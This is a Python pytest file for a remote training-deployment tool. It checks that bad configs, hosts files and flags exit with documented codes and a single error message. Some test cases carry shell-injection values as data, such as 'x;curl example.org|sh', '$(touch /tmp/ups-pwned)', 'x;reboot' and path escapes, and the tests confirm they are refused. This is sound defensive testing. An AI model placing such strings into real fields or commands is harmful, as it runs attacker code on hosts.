"""Every deploy mistake ends in one paragraph on stderr and a documented exit code.

2: a run config, hosts file or flag is wrong (nothing contacted); 3: the host cannot be
reached or verified; 4: preflight failed. No traceback in any of them. Values that
reach remote shells (run ids, run names, ups_bin, service names) are refused before
any connection: the hosts here point at a port nobody listens on, so a connection
attempt would end in exit 3 ("unreachable") instead.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
import yaml

from tests.deploy_fixtures import VENV_BIN, SshServer, demo_config, fab, free_port, sshd

__all__ = ["sshd"]


def _hosts(tmp_path: Path, **entry: object) -> Path:
    """A hosts file whose `dead` host has nothing listening: connecting would fail (3)."""
    base = {"host": "127.0.0.1", "port": free_port(), "workdir": "/tmp/ups-nowhere"}
    path = tmp_path / "hosts.yaml"
    path.write_text(
        yaml.safe_dump({"known_hosts": str(tmp_path / "kh"), "hosts": {"dead": {**base, **entry}}})
    )
    return path


def _deploy(hosts: Path, config: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    return fab(
        "deploy", "--host", "dead", "--hosts-file", str(hosts), "--config", str(config), *extra,
        timeout=120,
    )  # fmt: skip


def _one_paragraph(stderr: str) -> None:
    """No traceback, and exactly one error message."""
    assert "Traceback" not in stderr
    assert stderr.count("error: ") == 1, stderr


@pytest.mark.slow
def test_fab_deploy_help_lists_options() -> None:
    """`fab deploy --help` prints the task's options (once `-h` was taken by --host)."""
    result = fab("deploy", "--help", timeout=60)
    assert result.returncode == 0, result.stderr
    for flag in ("--host", "--set", "--fresh", "--run", "--dry-run"):
        assert flag in result.stdout


@pytest.mark.slow
def test_config_typo_exits_2_with_key_path_and_set_hint(tmp_path: Path) -> None:
    """A typo'd key in the run config: exit 2, the key path, the fix, and how to override
    it from `fab deploy --set`, before any connection."""
    config = demo_config(tmp_path / "c.yaml", extra={"trainig": {"max_steps": 3}})
    result = _deploy(_hosts(tmp_path), config)
    assert result.returncode == 2, result.stderr
    _one_paragraph(result.stderr)
    assert "trainig: unknown key" in result.stderr
    assert "--set KEY=VALUE" in result.stderr


@pytest.mark.slow
def test_set_override_is_validated_and_planned(tmp_path: Path) -> None:
    """`--set` takes the same KEY=VALUE as `ups launch --set`: a bad key exits 2 naming
    it; a good one reaches the remote launch and preflight commands in the plan."""
    config = demo_config(tmp_path / "c.yaml")
    hosts = _hosts(tmp_path)
    bad = _deploy(hosts, config, "--set", "training.max_stepz=5")
    assert bad.returncode == 2
    assert "training.max_stepz: unknown key" in bad.stderr
    good = _deploy(hosts, config, "--set", "training.max_steps=5", "--dry-run")
    assert good.returncode == 0, good.stderr
    assert "--set training.max_steps=5" in good.stdout


@pytest.mark.slow
def test_missing_config_file_exits_2(tmp_path: Path) -> None:
    """A config path that does not exist: exit 2 naming the file."""
    result = _deploy(_hosts(tmp_path), tmp_path / "nope.yaml")
    assert result.returncode == 2
    _one_paragraph(result.stderr)
    assert "nope.yaml" in result.stderr and "cannot read it" in result.stderr
    assert "--set" not in result.stderr  # no key to override: the file is the problem


@pytest.mark.slow
@pytest.mark.parametrize(
    ("entry", "key"),
    [
        ({"ups_bin": "ups; touch /tmp/ups-pwned"}, "hosts.dead.ups_bin"),
        (
            {"kind": "docker", "compose_service": "train-ddp$(touch /tmp/ups-pwned)"},
            "hosts.dead.compose_service",
        ),
        ({"workdir": "/srv/a b"}, "hosts.dead.workdir"),
    ],
)
def test_shell_injection_in_hosts_file_is_refused(
    tmp_path: Path, entry: dict[str, str], key: str
) -> None:
    """A hosts.yaml value that would run a command on the host (ups_bin, a compose
    service name, a workdir with a space) is refused with its key path, exit 2."""
    result = _deploy(_hosts(tmp_path, **entry), demo_config(tmp_path / "c.yaml"), "--dry-run")
    assert result.returncode == 2, result.stdout + result.stderr
    _one_paragraph(result.stderr)
    assert key in result.stderr
    assert "used in commands on the host" in result.stderr
    assert not Path("/tmp/ups-pwned").exists()


@pytest.mark.slow
@pytest.mark.parametrize(
    ("key", "value"), [("run_id", "x;curl example.org|sh"), ("name", "demo$(id)")]
)
def test_run_id_injection_in_config_is_refused(tmp_path: Path, key: str, value: str) -> None:
    """`run.run_id` or `run.name` carrying shell text is a config error (exit 2) naming
    the key; nothing is contacted."""
    config = demo_config(tmp_path / "c.yaml", extra={"run": {"name": "demo", key: value}})
    result = _deploy(_hosts(tmp_path), config)
    assert result.returncode == 2, result.stderr
    _one_paragraph(result.stderr)
    assert f"run.{key}:" in result.stderr
    assert "not a valid run id" in result.stderr


@pytest.mark.slow
@pytest.mark.parametrize("run_id", ["../x", "a b", "x;reboot"])
def test_run_flag_path_escape_is_refused(tmp_path: Path, run_id: str) -> None:
    """`fab deploy --run ../x` and `ups launch --run-id ../x` are refused with exit 2
    before anything is created or contacted."""
    result = _deploy(_hosts(tmp_path), demo_config(tmp_path / "c.yaml"), "--run", run_id)
    assert result.returncode == 2
    _one_paragraph(result.stderr)
    assert "--run:" in result.stderr and "not a valid run id" in result.stderr
    status = fab("status", "--host", "dead", "--hosts-file", str(_hosts(tmp_path)), "--run", run_id)
    assert status.returncode == 2
    ups = [str(VENV_BIN / "ups"), "launch", str(tmp_path / "c.yaml")]
    launch = subprocess.run(
        [*ups, "--run-id", run_id, "--dry-run"],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=tmp_path,
    )
    assert launch.returncode == 2
    assert "--run-id" in launch.stderr and "not a valid run id" in launch.stderr
    assert not (tmp_path / "runs").exists()


@pytest.mark.slow
def test_unknown_host_exits_2(tmp_path: Path) -> None:
    """`--host typo` names the hosts and groups that exist, exit 2."""
    result = fab("status", "--host", "typo", "--hosts-file", str(_hosts(tmp_path)))
    assert result.returncode == 2
    _one_paragraph(result.stderr)
    assert "unknown host 'typo'" in result.stderr and "dead" in result.stderr


@pytest.mark.slow
def test_missing_key_file_exits_2_before_connecting(tmp_path: Path) -> None:
    """A `key:` that does not exist is named, with how to create one; no SSH attempt."""
    hosts = _hosts(tmp_path, key=str(tmp_path / "id_missing"))
    result = fab("status", "--host", "dead", "--hosts-file", str(hosts))
    assert result.returncode == 2
    _one_paragraph(result.stderr)
    assert f"key file {tmp_path / 'id_missing'}" in result.stderr
    assert "ssh-keygen" in result.stderr
    assert "unreachable" not in result.stderr


@pytest.mark.slow
@pytest.mark.ssh
@pytest.mark.ssh
def test_unreadable_key_file_exits_2(sshd: SshServer, tmp_path: Path) -> None:
    """A key path that is a directory (unreadable as a key) is refused the same way."""
    hosts = sshd.write_hosts(tmp_path / "hosts.yaml", {"test": sshd.host_entry(key=str(tmp_path))})
    result = fab("status", "--host", "test", "--hosts-file", str(hosts))
    assert result.returncode == 2, result.stderr
    _one_paragraph(result.stderr)
    assert "cannot be read" in result.stderr


@pytest.mark.slow
@pytest.mark.ssh
@pytest.mark.ssh
def test_auth_failure_exits_3_naming_key_and_user(sshd: SshServer, tmp_path: Path) -> None:
    """A key the host does not accept: exit 3 at once (no retries), naming the fix."""
    other = tmp_path / "other_key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(other)], check=True)
    hosts = sshd.write_hosts(tmp_path / "hosts.yaml", {"test": sshd.host_entry(key=str(other))})
    result = fab("status", "--host", "test", "--hosts-file", str(hosts))
    assert result.returncode == 3, result.stderr
    _one_paragraph(result.stderr)
    assert "rejected our key" in result.stderr
    assert "Check 'key' and 'user' in hosts.yaml" in result.stderr
    assert "retrying" not in result.stderr
